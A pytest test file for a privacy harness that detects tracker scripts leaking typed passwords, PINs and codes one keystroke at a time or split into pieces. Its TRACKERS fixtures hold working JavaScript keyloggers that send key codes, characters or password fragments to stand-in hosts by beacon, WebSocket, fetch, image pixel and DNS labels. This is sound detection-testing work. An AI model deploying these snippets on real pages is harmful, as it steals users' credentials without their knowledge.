"""Tests for harness/privacy/fragments.py and keys.py: values sent a key at a time (as text, key names, `code`
values, key codes, char codes) or cut into pieces sent apart (prefix, suffix, middle, host labels, two hosts)
are found; other keys and lone pieces are not; and end to end, in both browsers, our own leaky trackers are
caught while nothing here shows a value."""

from __future__ import annotations

import gzip
import io
import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from demo_flows import SITE, login

from harness.capture.proxy import CapturedRequest
from harness.cli import ExitStatus, main
from harness.privacy.fragments import PIECES_WINDOW_MS, REORDER_MS, FragmentHit, find_fragments
from harness.privacy.keys import physical
from harness.privacy.leaks import Protected, fingerprint
from harness.privacy.redact import keystroke_parts, mask_keystrokes

KEY = b"per-run key for the tests, 32 b."

EMAIL = Protected("email", "Ada.Lovelace@Example.org", "email")
PASSWORD = Protected("password", "Hunter2-Secret!", "password")
CARD = Protected("card", "4111 1111 1111 1111", "card")
PIN = Protected("pin", "482913", "pin")
NAME = Protected("name", "  Ada Lovelace ", "name")  # typed with stray spaces
SHORT = Protected("code", "qz7k", "otp")
VALUES = [EMAIL, PASSWORD, CARD, PIN, NAME, SHORT]
SECRET = PASSWORD.value

Found = set[tuple[str, str, str, str, tuple[int, ...]]]


def fragments(*payloads: bytes, values: list[Protected] = VALUES) -> Found:
    return {
        (hit.name, hit.variant, hit.group, hit.source, hit.payloads)
        for hit in find_fragments(list(payloads), values, KEY)
    }


def assert_safe(text: str) -> None:
    for protected in VALUES:
        value = protected.value
        shown = [value] if len(value.strip()) < 6 else [value[:length] for length in range(4, len(value) + 1)]
        assert not any(form in text for form in shown), f"{protected.name} shows in {text!r}"


# --- keys as typed text ------------------------------------------------------------------------------------------


def test_one_key_per_json_payload() -> None:
    payloads = [json.dumps({"t": "key", "k": char}).encode() for char in "xx" + SECRET]
    assert fragments(*payloads) == {("password", "exact", "k", "json", tuple(range(2, 2 + len(SECRET))))}


def test_two_keys_per_payload() -> None:
    payloads = [json.dumps({"k": SECRET[index : index + 2]}).encode() for index in range(0, len(SECRET), 2)]
    assert fragments(*payloads) == {("password", "exact", "k", "json", tuple(range(len(payloads))))}


def test_keys_in_a_nested_array() -> None:
    payloads = [
        json.dumps({"events": [{"key": char} for char in SECRET[index : index + 3]]}).encode()
        for index in range(0, 15, 3)
    ]
    assert fragments(*payloads) == {("password", "exact", "events[].key", "json", (0, 1, 2, 3, 4))}


def test_one_key_per_form_post() -> None:
    payloads = [f"k={quote(char, safe='')}&n={index}".encode() for index, char in enumerate(SECRET)]
    assert fragments(*payloads) == {("password", "exact", "k", "form", tuple(range(len(SECRET))))}


def test_one_key_per_get_beacon_across_hosts() -> None:
    payloads = [
        f"https://t{index % 2}.test/k.gif?c={quote(char, safe='')}&t={index}".encode()
        for index, char in enumerate(SECRET)
    ]
    assert fragments(*payloads) == {("password", "exact", "c", "form", tuple(range(len(SECRET))))}


def test_one_key_per_tiny_frame() -> None:
    payloads = [char.encode() for char in "482913"]
    assert fragments(*payloads) == {("pin", "exact", "", "payload", (0, 1, 2, 3, 4, 5))}


def test_gzip_frames_are_decoded_first() -> None:
    payloads = [gzip.compress(json.dumps({"k": char}).encode()) for char in SECRET]
    (hit,) = find_fragments(payloads, VALUES, KEY)
    assert (hit.name, hit.chain) == ("password", ("gzip",))


def test_a_value_typed_halfway_is_a_prefix() -> None:
    payloads = [json.dumps({"k": char}).encode() for char in "Hunter2-S"]
    assert fragments(*payloads) == {("password", "prefix:9/15", "k", "json", tuple(range(9)))}


def test_keystrokes_of_other_text_are_not_a_value() -> None:
    payloads = [json.dumps({"k": char}).encode() for char in "hello there, how are you? hunter 1337"]
    assert fragments(*payloads) == set()


def test_long_strings_are_not_keystrokes() -> None:
    payloads = [json.dumps({"k": SECRET}).encode()]  # a whole value is a scan hit, not fragments
    assert fragments(*payloads) == set()


# --- keys as key names, code values and numbers ------------------------------------------------------------------

_CODE_OF = {"-": "Minus", "!": "Digit1", "@": "Digit2", ".": "Period"}
_KEY_CODE_OF = {"-": 189, "!": 49, "@": 50, ".": 190}


def code(char: str) -> str:
    """The `code` of the key that types `char` (US layout)."""
    if char.isalpha():
        return f"Key{char.upper()}"
    return f"Digit{char}" if char.isdigit() else _CODE_OF[char]


def key_code(char: str) -> int:
    """The keydown `keyCode` of the key that types `char`."""
    return ord(char.upper()) if char.isalnum() else _KEY_CODE_OF[char]


def shifted(char: str) -> bool:
    return char.isupper() or char in "!@"


def key_names(text: str) -> list[str]:
    """The `key` of each keydown that types `text`, Shift included."""
    return [name for char in text for name in (["Shift", char] if shifted(char) else [char])]


def test_key_names_ignore_shift_and_apply_backspace() -> None:
    typed = key_names(SECRET[:6] + "x")  # a slip, taken back
    payloads = [json.dumps({"key": name}).encode() for name in [*typed, "Backspace", *key_names(SECRET[6:])]]
    ((name, variant, group, source, carriers),) = fragments(*payloads)
    assert (name, variant, group, source) == ("password", "exact", "key", "json")
    assert len(typed) - 1 not in carriers  # the slip is not part of the value


def test_numeric_key_codes_one_beacon_per_key() -> None:
    payloads = [json.dumps({"kc": key_code(char)}).encode() for char in SECRET]
    assert fragments(*payloads) == {
        ("password", "exact as keyCode, case-insensitive", "kc", "json", tuple(range(len(SECRET))))
    }


def test_key_codes_as_query_strings_with_backspace() -> None:
    codes = [key_code(char) for char in "4829"] + [8] + [key_code(char) for char in "913"]
    payloads = [f"https://k.test/p.gif?which={number}".encode() for number in codes]
    (hit,) = find_fragments(payloads, VALUES, KEY)
    assert (hit.name, hit.variant, hit.group, hit.source) == ("pin", "exact as keyCode, case-insensitive", "which", "form")
    assert 3 not in hit.payloads  # the 9 typed twice: the first one was taken back


def test_char_codes_keep_case() -> None:
    payloads = [json.dumps({"c": ord(char)}).encode() for char in SECRET]
    assert fragments(*payloads) == {("password", "exact as charCode", "c", "json", tuple(range(len(SECRET))))}
    other_case = [json.dumps({"c": ord(char)}).encode() for char in SECRET.swapcase()]
    assert fragments(*other_case) == set()


def test_code_values_lose_case_and_shift() -> None:
    payloads = [json.dumps({"code": c}).encode() for char in SECRET for c in ("ShiftLeft", code(char))]
    assert fragments(*payloads) == {
        ("password", "exact as code, case-insensitive", "code", "json", tuple(range(1, 2 * len(SECRET), 2)))
    }


def test_key_codes_across_channels_and_hosts_in_order() -> None:
    """A beacon to one host, a WebSocket frame to another: one stream of keys, in the order they left."""
    payloads = [
        (f"https://a.test/k?kc={key_code(char)}" if index % 2 else f"kc={key_code(char)}").encode()
        for index, char in enumerate(EMAIL.value)
    ]
    ((name, variant, _, _, carriers),) = fragments(*payloads)
    assert (name, variant, carriers) == ("email", "exact as keyCode, case-insensitive", tuple(range(len(payloads))))


def test_many_numbers_at_one_place_of_one_payload_are_data_not_keys() -> None:
    """Node ids of a recorder's snapshot run 1, 2, 3, ...: read as codes they spell every run of the alphabet."""
    digits = "456789"  # a code whose characters are consecutive, as the ids' char codes are
    snapshot = json.dumps({"adds": [{"id": number} for number in range(1, 200)]}).encode()
    assert find_fragments([snapshot], [Protected("pin", digits, "pin")], KEY) == []
    one_per_payload = [json.dumps({"adds": [{"id": ord(char)}]}).encode() for char in digits]
    assert len(find_fragments(one_per_payload, [Protected("pin", digits, "pin")], KEY)) == 1


def test_physical_keys_lose_case_and_shift() -> None:
    assert physical("Hunter2-Secret!") == "hunter2-secret1"
    assert physical("a@b.c") == "a2b.c"


def test_mouse_coordinates_spell_nothing() -> None:
    """Numbers of an honest tracker (a pointer moving across the page) read as codes spell no value."""
    payloads = [json.dumps({"t": "move", "x": x, "y": 300 + x // 7}).encode() for x in range(0, 1400, 3)]
    assert fragments(*payloads) == set()


# --- pieces ------------------------------------------------------------------------------------------------------


def test_a_short_code_split_across_two_hosts() -> None:
    payloads = [b"https://a.test/c?p=482", b"https://b.test/c?q=913"]
    assert fragments(*payloads) == {("pin", "exact in 2 pieces", "form:p+form:q", "pieces", (0, 1))}


def test_suffix_first_then_middle_then_prefix() -> None:
    payloads = [json.dumps({"s": piece}).encode() for piece in (SECRET[10:], SECRET[5:10], SECRET[:5])]
    assert fragments(*payloads) == {("password", "exact in 3 pieces", "json:s+json:s+json:s", "pieces", (0, 1, 2))}


def test_pieces_in_host_labels() -> None:
    assert fragments(b"https://482.913.dns.test/p.gif") == {("pin", "exact in 2 pieces", "host+host", "pieces", (0,))}


def test_pieces_in_path_segments_and_a_frame() -> None:
    value = EMAIL.value
    payloads = [f"https://t.test/c/{quote(value[:7])}/f.html".encode(), value[7:14].encode(), value[14:].encode()]
    assert fragments(*payloads) == {("email", "exact in 3 pieces", "path+payload+payload", "pieces", (0, 1, 2))}


def test_a_lowercased_value_in_pieces() -> None:
    lowered = EMAIL.value.lower()
    payloads = [json.dumps({"a": lowered[:12], "b": lowered[12:]}).encode()]
    assert fragments(*payloads) == {("email", "lowercase in 2 pieces", "json:a+json:b", "pieces", (0,))}


@pytest.mark.parametrize(
    "payloads",
    [
        [b"https://a.test/c?p=482"],  # one piece alone
        [b"https://a.test/c?p=482", b"https://b.test/c?q=91"],  # the rest too short to count
        [b"https://a.test/c?p=x482", b"https://b.test/c?q=913y"],  # pieces of longer strings
        [json.dumps({"v": SECRET}).encode()],  # the whole value in one string: the scanner's, not pieces
    ],
    ids=["alone", "too-short", "inside-longer", "whole"],
)
def test_what_is_not_pieces(payloads: list[bytes]) -> None:
    assert fragments(*payloads) == set()


def test_pieces_scattered_over_a_session_are_not_a_value() -> None:
    """Three-digit numbers an honest pixel sends minutes apart do not make a code, however they line up."""
    payloads = [b"https://px.test/p.gif?x=482", b"https://px.test/p.gif?y=913"]
    assert find_fragments(payloads, [PIN], KEY, times=[1000.0, 1000.0 + PIECES_WINDOW_MS + 1]) == []
    assert len(find_fragments(payloads, [PIN], KEY, times=[1000.0, 1000.0 + PIECES_WINDOW_MS])) == 1


def test_one_string_is_one_piece() -> None:
    """A value made of one piece twice needs that piece sent twice."""
    twice = Protected("pin", "747747", "pin")
    assert find_fragments([b"https://a.test/c?p=747"], [twice], KEY) == []
    (hit,) = find_fragments([b"https://a.test/c?p=747", b"https://b.test/c?q=747"], [twice], KEY)
    assert (hit.variant, hit.payloads) == ("exact in 2 pieces", (0, 1))


def test_keystrokes_that_spell_a_value_are_not_reported_again_as_pieces() -> None:
    payloads = [json.dumps({"k": SECRET[index : index + 3]}).encode() for index in range(0, len(SECRET), 3)]
    assert {variant for _, variant, *_ in fragments(*payloads)} == {"exact"}


def test_min_piece_sets_the_shortest_piece() -> None:
    payloads = [b"https://a.test/c?p=4829", b"https://b.test/c?q=13"]
    assert find_fragments(payloads, [PIN], KEY) == []
    (hit,) = find_fragments(payloads, [PIN], KEY, min_piece=2)
    assert hit.variant == "exact in 2 pieces"


def test_fragment_hits_print_safely() -> None:
    hits = find_fragments([json.dumps({"k": char}).encode() for char in SECRET], VALUES, KEY)
    hits += find_fragments([b"https://482.913.dns.test/p.gif", json.dumps({"kc": 72}).encode()], VALUES, KEY)
    assert len(hits) == 2
    for hit in hits:
        assert isinstance(hit, FragmentHit)
        assert_safe(repr(hit))
        assert_safe(str(hit))
    assert hits[0].fingerprint == fingerprint(SECRET, KEY)


# --- the stored traffic --------------------------------------------------------------------------------------------


def _beacon(t_ms: float, url: str, body: bytes = b"") -> CapturedRequest:
    return CapturedRequest(t_ms, "POST", url, (), body, "beacon")


def test_stored_traffic_masks_key_codes_and_withholds_pieces() -> None:
    requests = [_beacon(float(i), "https://k.test/k", json.dumps({"kc": key_code(c)}).encode()) for i, c in enumerate(SECRET)]
    requests += [_beacon(100.0, "https://a.test/c?p=482"), _beacon(101.0, "https://b.test/c?q=913")]
    parts = keystroke_parts(requests, [], VALUES, KEY)
    masked = mask_keystrokes(requests[0].body, parts[("request", 0, "body")])
    assert masked is not None and json.loads(masked) == {"kc": parts[("request", 0, "body")].marker}
    assert mask_keystrokes(requests[-1].url.encode(), parts[("request", len(SECRET) + 1, "url")]) is None


# --- end to end, our own leaky trackers in both browsers -------------------------------------------------------------

LOGIN = login(delay_ms=60, wait_ms=300)

VERIFY = """
name: Verify
start: https://shop.test/verify.html
secrets:
  otp: "{canary:otp}"
  pin: "{canary:pin}"
steps:
  - type: {selector: "#otp", text: "{otp}", delay: 60}
  - type: {selector: "#pin", text: "{pin}", delay: 60}
  - wait: 300
  - submit: "#otp-form"
  - expect: {text: "Welcome back"}
  - leave: close
"""

# Each tracker sends to hosts of its own, so each one's findings are told apart by where they went.
TRACKERS: dict[str, str] = {
    # keydown keyCode, one message per key, alternating a beacon to one host and a WebSocket frame to another.
    "key-codes": """(() => { const ws = new WebSocket('wss://kc-b.test/ws'); let n = 0;
        addEventListener('keydown', (e) => { const body = JSON.stringify({kc: e.keyCode});
          if (n++ % 2 && ws.readyState === 1) ws.send(body); else navigator.sendBeacon('https://kc-a.test/k', body); }, true); })();""",
    # the `code` of each key, one fetch per key.
    "code-values": """addEventListener('keydown', (e) =>
        fetch('https://code.test/k', {method: 'POST', body: JSON.stringify({code: e.code}), keepalive: true}), true);""",
    # keypress charCode, one pixel per key (numbered: the browser would not fetch one picture twice).
    "char-codes": """(() => { let n = 0; addEventListener('keypress', (e) => {
        new Image().src = 'https://cc.test/p.gif?c=' + e.charCode + '&n=' + n++; }, true); })();""",
    # a 6-digit code, half to one host and half to another.
    "two-hosts": """addEventListener('input', (e) => { const v = e.target.value; if (e.target.id !== 'pin' || v.length !== 6) return;
        navigator.sendBeacon('https://half-a.test/c?p=' + v.slice(0, 3)); navigator.sendBeacon('https://half-b.test/c?q=' + v.slice(3)); }, true);""",
    # the password in three pieces at submit, the suffix first.
    "suffix-middle": """addEventListener('submit', () => { const v = document.querySelector('#password').value, t = Math.floor(v.length / 3);
        for (const s of [v.slice(2 * t), v.slice(t, 2 * t), v.slice(0, t)]) navigator.sendBeacon('https://thirds.test/s', JSON.stringify({s})); }, true);""",
    # a 6-digit code in the labels of a hostname.
    "dns-labels": """addEventListener('input', (e) => { const v = e.target.value; if (e.target.id !== 'otp' || v.length !== 6) return;
        new Image().src = 'https://' + v.slice(0, 3) + '.' + v.slice(3) + '.dns.test/p.gif'; }, true);""",
}

# What each tracker must be caught as: (field, the finding's place, its variant), the host it went to.
EXPECTED: dict[str, tuple[str, str, str, tuple[str, ...]]] = {
    "key-codes": ("#password", "fragments:kc", "exact as keyCode, case-insensitive", ("kc-a.test", "kc-b.test")),
    "code-values": ("#password", "fragments:code", "exact as code, case-insensitive", ("code.test",)),
    "char-codes": ("#password", "fragments:c", "exact as charCode", ("cc.test",)),
    "two-hosts": ("#pin", "pieces:form:p+form:q", "exact in 2 pieces", ("half-a.test", "half-b.test")),
    "suffix-middle": ("#password", "pieces:json:s+json:s+json:s", "exact in 3 pieces", ("thirds.test",)),
    "dns-labels": ("#otp", "pieces:host+host", "exact in 2 pieces", ("dns.test",)),
}


@pytest.fixture(scope="module", params=["chromium", "firefox"])
def leaky_runs(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    """Both scenarios with every leaky tracker at once, in one browser: the runs of results.json."""
    folder = tmp_path_factory.mktemp(f"leaky-{request.param}")
    (folder / "login.yaml").write_text(LOGIN)
    (folder / "verify.yaml").write_text(VERIFY)
    snippet = folder / "snippet.js"
    snippet.write_text("\n".join(TRACKERS.values()))
    out, err = io.StringIO(), io.StringIO()
    status = main(
        ["run", str(folder / "login.yaml"), str(folder / "verify.yaml"), "--site", str(SITE), "--snippet",
         str(snippet), "--report", str(folder / "r"), "--browser", request.param], out, err,
    )
    assert status == ExitStatus.CHECK_FAILED, out.getvalue() + err.getvalue()
    runs: list[dict[str, Any]] = json.loads((folder / "r" / "results.json").read_text())["runs"]
    # Neither the stored traffic nor a finding shows pieces of a value: they are withheld.
    for run in runs:
        stored = (folder / "r" / run["dir"] / "traffic.json").read_text() + json.dumps(run["findings"])
        assert not re.search(r"\d{3}\.\d{3}\.dns\.test|half-[ab]\.test/c\?[pq]=\d", stored), run["file"]
    return runs


@pytest.mark.parametrize("tracker", list(TRACKERS))
def test_leaky_tracker_is_caught(leaky_runs: list[dict[str, Any]], tracker: str) -> None:
    field, where, variant, hosts = EXPECTED[tracker]
    findings = [f for run in leaky_runs for f in run["findings"]]
    caught = [f for f in findings if (f["field"], f["where"].split(" over ")[0], f["variant"]) == (field, where, variant)]
    assert caught, sorted({(f["field"], f["where"], f["variant"], f["url"]) for f in findings})
    assert all(any(host in f["url"] for host in hosts) or "⟦fp:" in f["url"] for f in caught), caught


# Every other key to a host of its own: that beacon waits for a new connection (TCP, CONNECT, TLS) and reaches
# the proxy after the next key, which went over the connection already open. Typed fast, as a person types.
NEW_CONNECTION_KEYS = """(() => { let n = 0; addEventListener('keydown', (e) => {
    const host = n % 2 ? 'fresh' + n + '.test' : 'warm.test'; n++;
    navigator.sendBeacon('https://' + host + '/k', JSON.stringify({key: e.key})); }, true); })();"""


@pytest.mark.parametrize("engine", ["chromium", "firefox"])
def test_keys_are_read_in_the_order_they_left_not_the_order_they_arrived(engine: str, tmp_path: Path) -> None:
    folder = tmp_path
    (folder / "login.yaml").write_text(login(delay_ms=10, wait_ms=300))
    (folder / "snippet.js").write_text(NEW_CONNECTION_KEYS)
    out, err = io.StringIO(), io.StringIO()
    status = main(
        ["run", str(folder / "login.yaml"), "--site", str(SITE), "--snippet", str(folder / "snippet.js"),
         "--report", str(folder / "r"), "--browser", engine], out, err,
    )
    assert status == ExitStatus.CHECK_FAILED, out.getvalue() + err.getvalue()
    (run,) = json.loads((folder / "r" / "results.json").read_text())["runs"]
    caught = {(f["field"], f["where"].split(" over ")[0], f["variant"]) for f in run["findings"]}
    assert ("#password", "fragments:key", "exact") in caught, caught
    assert ("#email", "fragments:key", "exact") in caught, caught


def test_keys_that_left_close_together_may_arrive_out_of_order() -> None:
    """A key waits for a new connection and comes after the next one: within `REORDER_MS` it is put back."""
    order = [0, 1, 2, 3, 5, 4, *range(6, len(SECRET))]  # the 5th key came after the 6th
    payloads = [json.dumps({"k": SECRET[i]}).encode() for i in order]
    close = [100.0 * n for n in range(len(SECRET))]
    (hit,) = find_fragments(payloads, VALUES, KEY, times=close)
    assert (hit.name, hit.variant, hit.payloads) == ("password", "exact", tuple(range(len(SECRET))))
    apart = [(REORDER_MS + 1) * n for n in range(len(SECRET))]
    assert [hit.variant for hit in find_fragments(payloads, VALUES, KEY, times=apart)] == ["prefix:4/15"]
    assert [hit.variant for hit in find_fragments(payloads, VALUES, KEY)] == ["prefix:4/15"]  # no times: as sent
    other = [json.dumps({"k": c}).encode() for c in SECRET[:4] + "x" + SECRET[5:]]  # a key missing: no value
    assert [hit.variant for hit in find_fragments(other, VALUES, KEY, times=close)] == ["prefix:4/15"]


def test_stored_traffic_masks_keys_put_back_in_order() -> None:
    order = [1, 0, *range(2, len(SECRET))]
    requests = [_beacon(50.0 * n, "https://k.test/k", json.dumps({"k": SECRET[i]}).encode()) for n, i in enumerate(order)]
    parts = keystroke_parts(requests, [], VALUES, KEY)
    assert set(parts) == {("request", n, "body") for n in range(len(SECRET))}


def test_what_reordering_moves_is_whole_payloads_not_the_keys_inside_one() -> None:
    code = Protected("otp", "894161", "otp")
    swapped = [json.dumps({"k": "161"}).encode(), json.dumps({"k": "894"}).encode()]  # the second left first
    (hit,) = find_fragments(swapped, [code], KEY, times=[0.0, 10.0])
    assert (hit.variant, hit.payloads) == ("exact", (0, 1))
    # The same digits inside one payload, or interleaved from two, are not the code.
    assert find_fragments([json.dumps({"k": ["498", "116"]}).encode()], [code], KEY, times=[0.0]) == []
    assert find_fragments([b'{"k": "984"}', b'{"k": "611"}'], [code], KEY, times=[0.0, 10.0]) == []


def test_a_few_digits_typed_are_masked_in_the_stored_traffic_but_prove_nothing() -> None:
    code = Protected("otp", "894161", "otp")
    requests = [_beacon(10.0 * n, "https://k.test/k", json.dumps({"k": char}).encode()) for n, char in enumerate("8941")]
    (hit,) = find_fragments([r.body for r in requests], [code], KEY, times=[r.t_ms for r in requests])
    assert (hit.variant, hit.reported) == ("prefix:4/6", False)
    assert set(keystroke_parts(requests, [], [code], KEY)) == {("request", n, "body") for n in range(4)}


def test_a_lone_surrogate_in_a_tracker_string_is_searched_not_a_crash() -> None:
    payloads = [b'{"k": "\\ud83d"}', *(json.dumps({"k": char}).encode() for char in SECRET)]
    (hit,) = find_fragments(payloads, VALUES, KEY, times=[float(n) for n in range(len(payloads))])
    assert (hit.name, hit.variant) == ("password", "exact")
